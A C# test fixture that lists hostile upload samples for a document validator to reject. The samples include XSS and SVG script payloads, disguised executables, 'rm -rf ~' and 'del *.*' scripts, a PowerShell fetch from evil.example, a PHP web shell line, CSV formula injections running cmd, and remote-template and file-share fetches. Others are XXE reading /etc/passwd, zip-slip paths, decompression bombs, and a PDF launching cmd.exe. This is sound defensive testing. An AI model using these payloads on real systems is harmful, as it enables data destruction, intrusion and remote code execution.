using System.Buffers.Binary;
using System.Text;
using static Trellis.Tests.Documents.GoodFiles;

namespace Trellis.Tests.Documents;

/// <summary>A file that must not be taken.</summary>
/// <param name="What">In words, for the test's name.</param>
/// <param name="Name">As its sender calls it.</param>
/// <param name="Says">Words of the sentence that its sender reads.</param>
public sealed record HostileFile(string What, string Name, byte[] Content, string Says);

/// <summary>What people should not be able to put among a group's documents: pages, drawings, programs, files that are two things, bombs, and what is broken.</summary>
internal static class HostileFiles
{
    private const string Page = "web page", Program = "program", Broken = "damaged", Hidden = "packed inside", Macros = "macros", Two = "two kinds", Bomb = "far larger", Stranger = "is not taken", Packed = "Unpack it", Locked = "password";
    private const string Html = "<!DOCTYPE html><script>alert(1)</script>";
    private const string Svg = "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>";
    private static readonly byte[] Exe = [.. "MZ"u8, 0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xFF, 0xFF, 0, 0];

    public static IReadOnlyList<HostileFile> All { get; } = [.. Pages(), .. Programs(), .. Pictures(), .. Office(), .. Archives(), .. Others(), .. Pdfs()];

    private static IEnumerable<HostileFile> Pages() =>
    [
        new("a web page", "page.html", Text(Html), Program),
        new("a web page called a PDF", "accounts.pdf", Text(Html), Page),
        new("a web page called a picture", "photo.jpg", Text("  \r\n" + Html), Page),
        new("a web page in UTF-16", "notes.txt", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(Html)], Page),
        new("a script far down in a text", "notes.txt", Text(new string('a', 50_000) + "\n<ScRiPt>alert(1)</sCrIpT>\n"), Page),
        new("a drawing with a script", "logo.svg", Text(Svg), Program),
        new("a drawing called a picture", "logo.png", Text(Svg), Page),
        new("a drawing behind a mark and a comment", "logo.txt", Text("\uFEFF<!-- hello -->" + Svg), Page),
        new("an XML file with a style sheet", "data.txt", Text("<?xml version=\"1.0\"?><?xml-stylesheet href=\"x.xsl\"?><a/>"), Page),
        new("a saved web page", "saved.txt", Text("MIME-Version: 1.0\nContent-Type: multipart/related\n\nx"), Page),
        new("a picture that breaks out of a page", "x.txt", Text("Dear all\n<img src=x onerror=alert(1)>"), Page),
    ];

    private static IEnumerable<HostileFile> Programs() =>
    [
        new("a Windows program called a PDF", "invoice.pdf", Exe, Program),
        new("a Windows program by its name", "setup.exe", Exe, Program),
        new("a Linux program", "run", [0x7F, .. "ELF"u8, 2, 1, 1, 0, 0], Program),
        new("a macOS program", "run.pdf", [0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1, 0], Program),
        new("a Java class", "a.docx", [0xCA, 0xFE, 0xBA, 0xBE, 0, 0, 0, 52], Program),
        new("WebAssembly", "a.pdf", [0, .. "asm"u8, 1, 0, 0, 0], Program),
        new("a Windows shortcut", "Accounts.pdf.lnk", [0x4C, 0, 0, 0, 1, 0x14, 2, 0], Program),
        new("a Windows shortcut without its name", "Accounts.pdf", [0x4C, 0, 0, 0, 1, 0x14, 2, 0], Program),
        new("a shell script", "notes.txt", Text("#!/bin/sh\nrm -rf ~\n"), Program),
        new("a batch file", "notes.txt", Text("@echo off\ndel *.*\n"), Program),
        new("a batch file by its name", "notes.bat", Text("del *.*\n"), Program),
        new("a PowerShell script", "notes.txt.ps1", Text("Invoke-WebRequest evil.example\n"), Program),
        new("a Visual Basic script", "letter.vbs", Text("MsgBox \"Hello\"\n"), Program),
        new("JavaScript", "letter.JS ", Text("alert(1)\n"), Program),
        new("JavaScript behind a turned reading direction", "letter\u202Efdp.js", Text("alert(1)\n"), Program),
        new("PHP", "notes.txt", Text("Hello <?php system($_GET['c']); ?>"), Page),
        new("registry entries", "notes.txt", Text("Windows Registry Editor Version 5.00\n[HKEY_CURRENT_USER]\n"), Program),
        new("an internet shortcut", "notes.txt", Text("[InternetShortcut]\nURL=https://evil.example/\n"), Program),
    ];

    private static IEnumerable<HostileFile> Pictures() =>
    [
        new("a GIF", "a.gif", [.. "GIF89a"u8, 1, 0, 1, 0, 0, 0, 0], "JPEG or PNG"),
        new("a GIF that is a Java archive too", "a.gif", [.. "GIF89a"u8, 1, 0, 1, 0, 0, 0, 0, .. Zip(("META-INF/MANIFEST.MF", Text("x")))], "JPEG or PNG"),
        new("a TIFF", "a.tif", [.. "II*"u8, 0, 8, 0, 0, 0], "JPEG or PNG"),
        new("a bitmap", "a.bmp", [.. "BM"u8, 70, 0, 0, 0, 0, 0, 0, 0], "JPEG or PNG"),
        new("a HEIC picture", "a.heic", [0, 0, 0, 24, .. "ftypheic"u8, 0, 0, 0, 0], "HEIC"),
        new("a JPEG of nothing but its first bytes and a page", "a.jpg", [0xFF, 0xD8, 0xFF, 0xE0, .. Text(Html)], Broken),
        new("a PNG cut short", "a.png", Png[..(Png.Length / 2)], Broken),
        new("a PNG of 20,000 by 20,000 points", "a.png", HugePng(20_000, 20_000), "50 million points"),
        new("a PNG of two thousand million points each way", "a.png", HugePng(2_000_000_000, 2_000_000_000), Broken),
        new("a JPEG of 60,000 by 60,000 points", "a.jpg", HugeJpeg(60_000), "50 million points"),
        new("a WebP of its head alone", "a.webp", [.. "RIFF"u8, 16, 0, 0, 0, .. "WEBPVP8 "u8, 0, 0, 0, 0], Broken),
        new("a JPEG of a thousand scans", "a.jpg", [.. Jpeg[..^2], .. Enumerable.Repeat<byte[]>([0xFF, 0xDA, 0, 8, 1, 1, 0, 0, 63, 0, 0], 1_000).SelectMany(scan => scan), 0xFF, 0xD9], Bomb),
    ];

    private static IEnumerable<HostileFile> Office() =>
    [
        new("an old Word file", "a.doc", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0, 0], "old Office"),
        new("a Word file with macros", "a.docx", Zip(("[Content_Types].xml", Text(WordTypes.Replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal))), ("word/document.xml", Text("<document/>"))), Macros),
        new("a Word file with hidden macros", "a.docx", Word(("word/vbaProject.bin", Text("x"))), Macros),
        new("an Excel file with old macros", "a.xlsx", Zip(("[Content_Types].xml", Text(SheetTypes)), ("xl/workbook.xml", Text("<workbook/>")), ("xl/macrosheets/sheet1.xml", Text("<a/>"))), Macros),
        new("an OpenDocument file with macros", "a.odt", Open("application/vnd.oasis.opendocument.text", ("Basic/Standard/Module1.xml", Text("<a/>"))), Macros),
        new("an OpenDocument file locked with a password", "a.odt", Open("application/vnd.oasis.opendocument.text", ("META-INF/manifest.xml", Text("<manifest><file-entry><encryption-data/></file-entry></manifest>"))), Locked),
        new("an OpenDocument file whose kind does not come first", "a.odt", Zip(("content.xml", Text("<a/>")), ("mimetype", Text("application/vnd.oasis.opendocument.text")), ("META-INF/manifest.xml", Text("<a/>"))), Stranger),
        new("a Word file that fetches its template", "a.docx", Word(("word/_rels/settings.xml.rels", Text("""<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>"""))), "fetches"),
        new("a Word file that fetches over the file share", "a.docx", Word(("word/_rels/document.xml.rels", Text("""<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://evil.example/share/a.png" TargetMode="External"/></Relationships>"""))), "fetches"),
        new("a Word file with an object in it", "a.docx", Word(("word/embeddings/oleObject1.bin", Text("x"))), Hidden),
        new("a Word file with a program in it", "a.docx", Word(("word/media/image1.png", Exe)), Hidden),
        new("a Word file with a page in it", "a.docx", Word(("word/afchunk.html", Text(Html))), Hidden),
        new("a Word file with a document type", "a.docx", Word(("word/a.xml", Text("<!DOCTYPE a SYSTEM \"file:///etc/passwd\"><a/>"))), Broken),
        new("a Word file with a thousand million laughs", "a.docx", Word(("word/a.xml", Text("<!DOCTYPE a [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;\">]><a>&b;</a>"))), Broken),
        new("a Word file of markup without end", "a.docx", Word(("word/a.xml", Text(string.Concat(Enumerable.Repeat("<a>", 5_000)) + string.Concat(Enumerable.Repeat("</a>", 5_000))))), Bomb),
        new("a presentation", "a.pptx", Zip(("[Content_Types].xml", Text(WordTypes.Replace("wordprocessingml.document", "presentationml.presentation", StringComparison.Ordinal))), ("ppt/presentation.xml", Text("<a/>"))), Stranger),
        new("two kinds of office file in one", "a.docx", Open("application/vnd.oasis.opendocument.text", ("[Content_Types].xml", Text(WordTypes)), ("word/document.xml", Text("<a/>"))), Two),
    ];

    private static IEnumerable<HostileFile> Archives() =>
    [
        new("a packed file", "a.zip", Zip(("a.txt", Text("hello"))), Packed),
        new("an empty packed file", "a.docx", [.. "PK\u0005\u0006"u8, .. new byte[18]], Packed),
        new("a Java archive called a Word file", "a.docx", Word(("META-INF/MANIFEST.MF", Text("Manifest-Version: 1.0")), ("Evil.class", Text("x"))), Hidden),
        new("a path that leads out", "a.docx", Word(("../../etc/cron.d/evil", Text("x"))), Hidden),
        new("a path from the root", "a.docx", Word(("/etc/passwd", Text("x"))), Hidden),
        new("a path as Windows writes it", "a.docx", Word((@"..\..\evil.txt", Text("x"))), Hidden),
        new("a path with a drive", "a.docx", Word(("C:/evil.txt", Text("x"))), Hidden),
        new("two parts of one name", "a.docx", Word(("WORD/document.xml", Text("<a/>"))), Hidden),
        new("a packed file within", "a.docx", Word(("word/a.zip", Zip(("a", Text("x"))))), Hidden),
        new("a bomb of one part", "a.docx", Word(("word/a.bin", new byte[40_000_000])), Bomb),
        new("a bomb that says it is small", "a.docx", Lying(Word(("word/a.bin", new byte[40_000_000]))), Broken),
        new("a bomb of many parts", "a.docx", Word([.. Enumerable.Range(0, 2_500).Select(number => ($"word/{number}.bin", Text("x")))]), Bomb),
        new("a part that is locked", "a.docx", Encrypted(Docx), Locked),
        new("a part that is altered", "a.docx", Altered(Docx), Broken),
        new("a file cut short", "a.docx", Docx[..^30], Two),
        new("a Word file with a page behind it", "a.docx", [.. Docx, .. Text(Html)], Two),
        new("a PDF with a packed file behind it", "a.pdf", [.. Pdf, .. Zip(("evil.js", Text("x"))), .. Array.Empty<byte>()], Two),
        new("gzip", "a.pdf", [0x1F, 0x8B, 8, 0, 0, 0, 0, 0], Packed),
        new("7-Zip", "a.docx", [.. "7z"u8, 0xBC, 0xAF, 0x27, 0x1C, 0, 4], Packed),
        new("RAR", "a.docx", [.. "Rar!"u8, 0x1A, 7, 1, 0], Packed),
    ];

    private static IEnumerable<HostileFile> Others() =>
    [
        new("nothing at all", "a.pdf", [], "empty"),
        new("spaces alone", "a.txt", Text(" \r\n\t \n"), "empty"),
        new("noise", "a.pdf", Noise(), Stranger),
        new("text with a NUL", "a.txt", Text("hello\0world"), Stranger),
        new("rich text", "a.rtf", Text(@"{\rtf1\ansi hello}"), "rich text"),
        new("PostScript", "a.ps", Text("%!PS-Adobe-3.0\n"), Stranger),
        new("a table that starts a program", "a.csv", Text("Name,Sum\nx,\"=cmd|' /C calc'!A0\"\n"), "makes spreadsheets run it"),
        new("a table with an old kind of formula", "a.csv", Text("Name;Sum\n@SUM(1+9);3\n"), "makes spreadsheets run it"),
        new("a table with a formula behind a sign", "a.csv", Text("Name\tSum\nx\t+HYPERLINK(\"http://evil.example\")\n"), "makes spreadsheets run it"),
        new("a table that reckons before it starts a program", "a.csv", Text("Name,Sum\nx,-2+3+cmd|' /C calc'!A0\n"), "makes spreadsheets run it"),
        new("a table with a formula in brackets", "a.csv", Text("Name,Sum\nx,+(1+cmd|'/C calc'!A0)\n"), "makes spreadsheets run it"),
        new("a table with an old kind of formula behind a sign", "a.csv", Text("Name,Sum\nx,-@SUM(1+9)\n"), "makes spreadsheets run it"),
        new("a table with a formula behind a quoted number", "a.csv", Text("Name,Sum\nx,\"-2,cmd|' /C calc'!A0\"\n"), "makes spreadsheets run it"),
        new("a table with a formula for those who separate otherwise", "a.csv", Text("Name;Sum\nx,=1+9;3\n"), "makes spreadsheets run it"),
        new("a web query for Excel", "a.txt", Text("WEB\n1\nhttp://evil.example/\n"), Stranger),
        new("a PDF cut short", "a.pdf", Pdf[..^20], Broken),
        new("a PDF that begins as a page", "a.pdf", [.. "%PDF-1.4\n<html><script>alert(1)</script>\n"u8, .. Pdf], Two),
        new("a PDF behind a script", "a.pdf", [.. "#!/bin/sh\n"u8, .. Pdf], Program),
    ];

    private static IEnumerable<HostileFile> Pdfs() =>
    [
        new("a PDF with a script", "a.pdf", PdfFiles.With("<</S/JavaScript/JS(app.alert\\(1\\))>>"), Program),
        new("a PDF with a script in other letters", "a.pdf", PdfFiles.With("<</S/J#61va#53cript/JS(app.alert\\(1\\))>>"), Program),
        new("a PDF with a script in a packed object", "a.pdf", PdfFiles.Packed("<</S/JavaScript/JS(app.alert\\(1\\))>>"), Program),
        new("a PDF with a script in a packed object that says nothing of itself", "a.pdf", PdfFiles.Packed("<</S/JavaScript/JS(x)>>", type: ""), Program),
        new("a PDF with a script in a packed object that begins behind a blank", "a.pdf", PdfFiles.Packed("<</S/JavaScript/JS(x)>>", afterWord: " \t\r\n"), Program),
        new("a PDF with a script far down in a packed object", "a.pdf", PdfFiles.Packed(new string(' ', 200_000) + "<</S/JavaScript/JS(x)>>"), Program),
        new("a PDF with a script inside what calls itself a picture", "a.pdf", PdfFiles.With("<</Type/XObject/Subtype/Image/Length 60>>\nstream\n9 0 obj <</S/JavaScript/JS(x)>> endobj\nendstream"), Program),
        new("a PDF that starts a program", "a.pdf", PdfFiles.With("<</S /Launch /F (cmd.exe)>>"), Program),
        new("a PDF that is a form with programs", "a.pdf", PdfFiles.With("<</AcroForm<</XFA 5 0 R>>>>"), Program),
        new("a PDF with a file inside", "a.pdf", PdfFiles.With("<</Type/EmbeddedFile/Length 3>>\nstream\nabc\nendstream"), "inside it"),
        new("a PDF with a film that runs", "a.pdf", PdfFiles.With("<</Subtype/RichMedia>>"), "inside it"),
        new("a PDF with a password", "a.pdf", PdfFiles.With("<</Filter/Standard/V 2>>", trailer: "/Encrypt 3 0 R"), Locked),
        new("a PDF whose objects are packed twice", "a.pdf", PdfFiles.Packed("<</S/JavaScript/JS(x)>>", filter: "[/ASCIIHexDecode/FlateDecode]"), "hides"),
        new("a PDF whose packed objects are broken", "a.pdf", PdfFiles.With("<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length 20>>\nstream\nnot packed at all....\nendstream"), Broken),
        new("a PDF of a million words that begin no stream", "a.pdf", PdfFiles.With(string.Concat(Enumerable.Repeat("stream\n", 1_200_000))), "hides"),
        new("a PDF of a million streams in one object", "a.pdf", PdfFiles.With(string.Concat(Enumerable.Repeat("stream\nx\u009c/A ", 700_000))), "hides"),
        new("a PDF whose packed objects hide behind a word", "a.pdf", PdfFiles.With("<</Type/ObjStm/N 1/First 4%stream\n/Filter/ASCIIHexDecode/Length 60>>\nstream\n3C3C2F532F4A6176615363726970743E3E>\nendstream"), "hides"),
        new("a PDF that unpacks to far more", "a.pdf", PdfFiles.Packed(new string(' ', 70_000_000)), Bomb),
    ];

    private static byte[] HugePng(uint width, uint height)
    {
        var made = Png.ToArray();
        BinaryPrimitives.WriteUInt32BigEndian(made.AsSpan(16), width);
        BinaryPrimitives.WriteUInt32BigEndian(made.AsSpan(20), height);
        BinaryPrimitives.WriteUInt32BigEndian(made.AsSpan(29), Trellis.Platform.Documents.Crc32.Of(made.AsSpan(12, 17)));
        return made;
    }

    private static byte[] HugeJpeg(ushort side)
    {
        var made = Jpeg.ToArray();
        var frame = made.AsSpan().IndexOf((ReadOnlySpan<byte>)[0xFF, 0xC0]);
        BinaryPrimitives.WriteUInt16BigEndian(made.AsSpan(frame + 5), side);
        BinaryPrimitives.WriteUInt16BigEndian(made.AsSpan(frame + 7), side);
        return made;
    }

    /// <summary>Sets the last part's size in the list to something small.</summary>
    private static byte[] Lying(byte[] zip)
    {
        var entry = zip.AsSpan().LastIndexOf("PK\u0001\u0002"u8);
        BinaryPrimitives.WriteUInt32LittleEndian(zip.AsSpan(entry + 24), 10);
        return zip;
    }

    private static byte[] Encrypted(byte[] zip)
    {
        var made = zip.ToArray();
        made[made.AsSpan().LastIndexOf("PK\u0001\u0002"u8) + 8] |= 1;
        return made;
    }

    /// <summary>Another sum for the last part, as if one of its letters had changed.</summary>
    private static byte[] Altered(byte[] zip)
    {
        var made = zip.ToArray();
        made[made.AsSpan().LastIndexOf("PK\u0001\u0002"u8) + 16] ^= 1;
        return made;
    }

    private static byte[] Noise()
    {
        var made = new byte[5_000];
        new Random(1).NextBytes(made);
        return made;
    }
}
